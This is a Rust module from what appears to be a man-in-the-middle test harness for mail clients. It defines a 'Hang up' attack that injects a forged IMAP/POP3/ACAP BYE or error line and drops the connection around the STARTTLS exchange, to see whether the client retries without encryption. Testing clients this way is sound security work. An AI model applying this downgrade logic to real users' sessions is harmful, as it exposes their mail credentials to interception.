//! Ends the session at a moment of its choice.

use super::kit::{LOGINS, TRIES_AGAIN, asks_for_tls, with_logins};
use super::{Attack, Deciding, Group, tamper};
use crate::base::{Protocol, Side, Switch, switch};
use crate::harm::success;

switch!(
    Middle MOMENT,
    "moment",
    Setting,
    &["request", "greeting", "answer"],
    &[],
    "Moment",
    "In place of the greeting, in answer to the request for TLS, or in the clear behind its positive answer."
);

static SWITCHES: &[&Switch] = &[&MOMENT, &LOGINS];

static DECIDING: &[Deciding] = &TRIES_AGAIN;

/// The attack.
pub static ATTACK: Attack = Attack {
    id: "bye-close",
    title: "Hang up",
    about: "Says goodbye in the server's name, or just hangs up, so that the client tries again with less.",
    group: Group::Negotiation,
    known: &[],
    protocols: &[Protocol::Imap, Protocol::Pop3, Protocol::Acap],
    switches: SWITCHES,
    build: |switches, dialect| {
        let when = switches.get(&MOMENT);
        let bye: &[u8] = match dialect.protocol {
            Protocol::Imap => b"* BYE shutting down\r\n",
            Protocol::Pop3 => b"-ERR shutting down\r\n",
            Protocol::Acap => b"* BYE \"shutting down\"\r\n",
        };
        let mut done = false;
        let mut asked = false;
        let hangs_up = tamper(move |message, moves| {
            let asks = asks_for_tls(dialect, &message).is_some();
            match when {
                _ if done => moves.pass(),
                "greeting" if message.is_greeting() => {
                    done = true;
                    moves.replace(bye.to_vec());
                    moves.close();
                }
                "request" if asks => {
                    done = true;
                    moves.answer(bye.to_vec());
                    moves.close();
                }
                "answer" if asked && message.from == Side::Server => {
                    done = true;
                    moves.pass();
                    moves.add(bye.to_vec());
                }
                _ => moves.pass(),
            }
            asked |= asks;
        });
        with_logins(switches, dialect, hangs_up)
    },
    success: &success::LOST,
    deciding: DECIDING,
};
